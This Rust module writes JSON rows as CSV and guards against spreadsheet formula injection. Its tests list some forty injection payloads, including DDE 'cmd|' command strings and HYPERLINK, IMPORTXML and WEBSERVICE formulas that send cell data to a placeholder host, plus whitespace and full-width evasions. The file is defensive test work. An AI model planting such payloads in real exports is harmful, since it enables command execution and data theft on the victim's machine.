//! CSV as RFC 4180 has it, and cells that no spreadsheet takes for a formula.
//!
//! Rows come from outside, and whoever named a virtual machine `=HYPERLINK(…)` must not get to run it on the desk of the
//! person who opens the export. A guarded cell begins with `'`, which spreadsheets show as text. Numbers of JSON are
//! let through: they cannot be formulas. Deliberately absent: files.

use std::collections::HashMap;
use std::io::{self, Write};
use std::ops::Range;

use super::WHOLE;
use super::scan::{fields, unescaped};

/// Most columns: more than a spreadsheet has. A file with more is no table.
const MOST_COLUMNS: usize = 16_384;

/// The columns of a table, in the order in which rows bring them.
#[derive(Debug, Default)]
pub(super) struct Columns {
    /// Keys as they stand in the rows, by which most lookups succeed without resolving escapes.
    by_key: HashMap<Vec<u8>, usize>,
    names: Vec<String>,
    by_name: HashMap<String, usize>,
}

/// More columns than a table can have.
#[derive(Debug)]
pub(super) struct TooMany;

impl Columns {
    pub(super) fn names(&self) -> &[String] {
        &self.names
    }

    /// Takes in the columns of a row.
    pub(super) fn learn(&mut self, row: &[u8]) -> Result<(), TooMany> {
        let mut guess = 0;
        let mut is_full = false;
        let is_object = fields(row, |key, _| {
            if self.position(key, guess).is_none() && !is_full {
                is_full = !self.add(key);
            }
            guess += 1;
        });
        if !is_object && !is_full {
            is_full = !self.add(WHOLE.as_bytes());
        }
        if is_full { Err(TooMany) } else { Ok(()) }
    }

    /// Returns the column of a key. Rows mostly have the same keys in the same order, so the guess mostly is right.
    fn position(&self, key: &[u8], guess: usize) -> Option<usize> {
        if self.names.get(guess).is_some_and(|name| name.as_bytes() == key) {
            return Some(guess);
        }
        self.by_key.get(key).copied()
    }

    fn add(&mut self, key: &[u8]) -> bool {
        let name = unescaped(key).unwrap_or_else(|| String::from_utf8_lossy(key).into_owned());
        let next = self.names.len();
        let column = *self.by_name.entry(name.clone()).or_insert(next);
        if column == next {
            if next == MOST_COLUMNS {
                return false;
            }
            self.names.push(name);
        }
        self.by_key.insert(key.to_vec(), column);
        true
    }
}

/// Writes rows as lines of a table.
pub(super) struct CsvWriter<'a, W> {
    out: &'a mut W,
    is_guarded: bool,
    /// Where in its row each cell stands, and the line under way; kept between rows, which would else cost allocations.
    cells: Vec<Option<Range<usize>>>,
    line: Vec<u8>,
}

impl<'a, W: Write> CsvWriter<'a, W> {
    pub(super) fn new(out: &'a mut W, is_guarded: bool) -> Self {
        Self { out, is_guarded, cells: Vec::new(), line: Vec::new() }
    }

    /// Writes the names of the columns.
    pub(super) fn head(&mut self, columns: &Columns) -> io::Result<()> {
        self.line.clear();
        for (at, name) in columns.names.iter().enumerate() {
            if at > 0 {
                self.line.push(b',');
            }
            push_text(&mut self.line, name.as_bytes(), (self.is_guarded, columns.names.len() == 1));
        }
        self.end_line()
    }

    /// Writes a row. What it does not have stays empty; of a key that stands in it twice, the last one counts. Writes
    /// nothing and returns false when it has what is no column.
    pub(super) fn row(&mut self, columns: &Columns, row: &[u8]) -> io::Result<bool> {
        let Self { cells, line, .. } = self;
        cells.clear();
        cells.resize(columns.names.len(), None);
        let (mut guess, mut is_known) = (0, true);
        let is_object = fields(row, |key, value| {
            match columns.position(key, guess) {
                Some(column) => {
                    // A value borrows from its row, so the distance of their starts is where it stands.
                    let start = (value.as_ptr() as usize).saturating_sub(row.as_ptr() as usize);
                    cells[column] = Some(start..start + value.len());
                }
                None => is_known = false,
            }
            guess += 1;
        });
        if !is_object {
            cells.fill(None);
            match columns.by_name.get(WHOLE) {
                Some(column) => cells[*column] = Some(0..row.len()),
                None => is_known = false,
            }
        }
        if !is_known {
            return Ok(false);
        }
        line.clear();
        let rules = (self.is_guarded, columns.names.len() == 1);
        for (at, cell) in cells.iter().enumerate() {
            if at > 0 {
                line.push(b',');
            }
            let value = cell.as_ref().and_then(|cell| row.get(cell.clone()));
            push_cell(line, value.unwrap_or(b"null"), rules);
        }
        self.end_line().map(|()| true)
    }

    fn end_line(&mut self) -> io::Result<()> {
        self.line.extend_from_slice(b"\r\n");
        self.out.write_all(&self.line)
    }
}

/// Adds a value as a cell. `is_only`: the table has one column.
fn push_cell(line: &mut Vec<u8>, value: &[u8], (is_guarded, is_only): (bool, bool)) {
    match value {
        // A line with nothing in it would be no row for many readers.
        b"null" if is_only => line.extend_from_slice(b"\"\""),
        b"null" => {}
        [b'"', inner @ .., b'"'] => match unescaped(inner) {
            Some(text) => push_text(line, text.as_bytes(), (is_guarded, is_only)),
            None => push_text(line, inner, (is_guarded, is_only)),
        },
        number if is_number(number) => line.extend_from_slice(number),
        other => push_text(line, other, (is_guarded, is_only)),
    }
}

/// Adds a text as a cell, quoted where it has to be.
fn push_text(line: &mut Vec<u8>, text: &[u8], (is_guarded, is_only): (bool, bool)) {
    let is_bare = !text.iter().any(|byte| NEEDS_QUOTES[usize::from(*byte)]);
    let has_edges = text.first() == Some(&b' ') || text.last() == Some(&b' ');
    let guard: &[u8] = if is_guarded && is_formula(text) { b"'" } else { b"" };
    if is_bare && !has_edges && !(text.is_empty() && is_only) {
        line.extend_from_slice(guard);
        return line.extend_from_slice(text);
    }
    line.push(b'"');
    line.extend_from_slice(guard);
    let mut rest = text;
    while let Some(at) = memchr::memchr(b'"', rest) {
        line.extend_from_slice(&rest[..=at]);
        line.push(b'"');
        rest = &rest[at + 1..];
    }
    line.extend_from_slice(rest);
    line.push(b'"');
}

/// Bytes for which a cell is quoted, of common separators as well. A table, since every byte of a result is asked about.
const NEEDS_QUOTES: [bool; 256] = {
    let mut table = [false; 256];
    let marks = b",\"\r\n;\t\0";
    let mut at = 0;
    while at < marks.len() {
        table[marks[at] as usize] = true;
        at += 1;
    }
    table
};

/// Says whether a spreadsheet could take a text for a formula or a command: by its first character, blanks before it
/// left aside, full-width forms included.
fn is_formula(text: &[u8]) -> bool {
    // Most cells begin with a letter or a digit.
    if text.first().is_none_or(u8::is_ascii_alphanumeric) {
        return false;
    }
    let is_mark =
        |c: char| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\0' | '＝' | '＋' | '－' | '＠');
    let is_blank = |c: char| matches!(c, ' ' | '\u{a0}' | '\u{feff}' | '\u{200b}' | '\u{3000}');
    String::from_utf8_lossy(text).trim_start_matches(is_blank).starts_with(is_mark)
}

/// Says whether a value is a number of JSON and nothing else.
fn is_number(value: &[u8]) -> bool {
    let digits = value.strip_prefix(b"-").unwrap_or(value);
    digits.first().is_some_and(u8::is_ascii_digit)
        && digits.iter().all(|b| b.is_ascii_digit() || matches!(b, b'.' | b'e' | b'E' | b'+' | b'-'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(rows: &[String], is_guarded: bool) -> Vec<u8> {
        let mut columns = Columns::default();
        for row in rows {
            columns.learn(row.as_bytes()).unwrap();
        }
        let mut out = Vec::new();
        let mut writer = CsvWriter::new(&mut out, is_guarded);
        writer.head(&columns).unwrap();
        for row in rows {
            assert!(writer.row(&columns, row.as_bytes()).unwrap());
        }
        out
    }

    /// Reads the table with a reader that nobody here wrote.
    fn read(bytes: &[u8]) -> Vec<Vec<String>> {
        let reader = ::csv::ReaderBuilder::new().has_headers(false).from_reader(bytes);
        reader.into_records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect()
    }

    /// Cells that somebody would name a machine, and what a spreadsheet must get instead; `None` for as it is.
    const HOSTILE: &[(&str, bool)] = &[
        ("=1+1", true),
        ("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", true),
        ("=cmd|' /C calc'!A0", true),
        ("=SUM(A1:A9)*cmd|'/c calc'!A0", true),
        ("=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")", true),
        ("=WEBSERVICE(\"http://x.example\")", true),
        ("=\"a\"&\"b\"", true),
        ("=", true),
        ("==", true),
        ("+1+1", true),
        ("+cmd|' /C calc'!A0", true),
        ("+", true),
        ("-1+1", true),
        ("-2+3+cmd|' /C calc'!A0", true),
        ("-", true),
        ("-5", true),
        ("@SUM(1+1)*cmd|' /C calc'!A0", true),
        ("@", true),
        ("@mention", true),
        ("\t=1+1", true),
        ("\r=1+1", true),
        ("\n=1+1", true),
        ("\r\n=1+1", true),
        ("\0=1+1", true),
        ("\0", true),
        ("\t", true),
        (" =1+1", true),
        ("   @x", true),
        ("\u{a0}=1+1", true),
        ("\u{3000}=1+1", true),
        ("\u{feff}=1+1", true),
        ("\u{200b}=1+1", true),
        ("＝1+1", true),
        ("＋1", true),
        ("－1", true),
        ("＠x", true),
        ("=1,2;3", true),
        ("=\"quoted, with comma\"", true),
        ("=1\r\n,=2", true),
        ("'=1+1", false),
        ("a=1+1", false),
        ("x\n=1+1", false),
        ("x,=1+1", false),
        ("x;=1+1", false),
        ("x\",=1+1,\"", false),
        ("\"", false),
        ("\",\"", false),
        ("plain", false),
        ("1823746190012345678", false),
        ("中文，逗号", false),
        (" edge ", false),
        ("", false),
    ];

    #[test]
    fn hostile_cells_stay_text_and_in_their_cell() {
        assert!(HOSTILE.len() >= 40);
        let rows: Vec<String> = HOSTILE
            .iter()
            .map(|(text, _)| serde_json::json!({ "a": text, "b": "next" }).to_string())
            .collect();

        let (guarded, raw) = (read(&written(&rows, true)), read(&written(&rows, false)));

        for (at, (text, is_guarded)) in HOSTILE.iter().enumerate() {
            let expected = if *is_guarded { format!("'{text}") } else { (*text).to_owned() };
            assert_eq!(guarded[at + 1], [expected.as_str(), "next"], "{text:?}");
            assert_eq!(raw[at + 1], [*text, "next"], "{text:?} raw");
        }
        println!("hostile cells: {}", HOSTILE.len());
    }

    /// What many spreadsheets do with a semicolon or a tab, for which their users' settings or an import dialog decide.
    #[test]
    fn no_formula_begins_a_cell_for_other_separators_either() {
        for (text, _) in HOSTILE {
            let row = serde_json::json!({ "a": text, "b": "x" }).to_string();
            let bytes = written(&[row], true);
            for separator in [b';', b'\t'] {
                let reader = ::csv::ReaderBuilder::new()
                    .has_headers(false)
                    .flexible(true)
                    .delimiter(separator)
                    .from_reader(&bytes[..]);
                let cells = reader.into_byte_records().flat_map(|record| {
                    let record = record.unwrap();
                    record.iter().map(<[u8]>::to_vec).collect::<Vec<_>>()
                });
                for cell in cells {
                    assert!(!matches!(cell.first(), Some(b'=' | b'+' | b'@')), "{text:?} gave {cell:?}");
                }
            }
        }
    }

    #[test]
    fn values_stand_as_they_were_received() {
        let rows = [
            r#"{"id":1823746190012345678,"n":-1.10,"e":1E+5,"t":true,"z":null,"list":[1.0,"=a"],"o":{"k":"v, w"}}"#,
            r#"{"new":"x","id":2}"#,
            r#"[1,2]"#,
            r#"{"id":3,"id":4}"#,
        ]
        .map(str::to_owned);

        let table = read(&written(&rows, true));

        assert_eq!(table[0], ["id", "n", "e", "t", "z", "list", "o", "new", "value"]);
        let first =
            ["1823746190012345678", "-1.10", "1E+5", "true", "", "[1.0,\"=a\"]", "{\"k\":\"v, w\"}", "", ""];
        assert_eq!(table[1], first);
        assert_eq!(table[2], ["2", "", "", "", "", "", "", "x", ""]);
        assert_eq!(table[3], ["", "", "", "", "", "", "", "", "[1,2]"]);
        assert_eq!(table[4][0], "4");
    }

    #[test]
    fn names_of_columns_are_guarded_and_escapes_name_the_same_column() {
        let rows = [r#"{"=cmd":"a","\u0061":1}"#, r#"{"a":2,"\u003dcmd":"b"}"#].map(str::to_owned);

        let table = read(&written(&rows, true));

        assert_eq!(table, [["'=cmd", "a"], ["a", "1"], ["b", "2"]]);
    }

    #[test]
    fn an_empty_only_cell_is_still_a_row() {
        let rows = [r#"{"a":""}"#, r#"{"a":null}"#, "{}"].map(str::to_owned);
        assert_eq!(String::from_utf8(written(&rows, true)).unwrap(), "a\r\n\"\"\r\n\"\"\r\n\"\"\r\n");
    }

    #[test]
    fn endless_columns_are_refused() {
        let row = |n: usize| format!("{{\"c{n}\":1}}");
        let mut columns = Columns::default();
        let mut rows = (0..).map(row);
        assert!(rows.by_ref().take(MOST_COLUMNS).all(|row| columns.learn(row.as_bytes()).is_ok()));
        assert!(columns.learn(rows.next().unwrap().as_bytes()).is_err());
        assert!(columns.learn(row(5).as_bytes()).is_ok(), "what is known is no new column");
    }
}
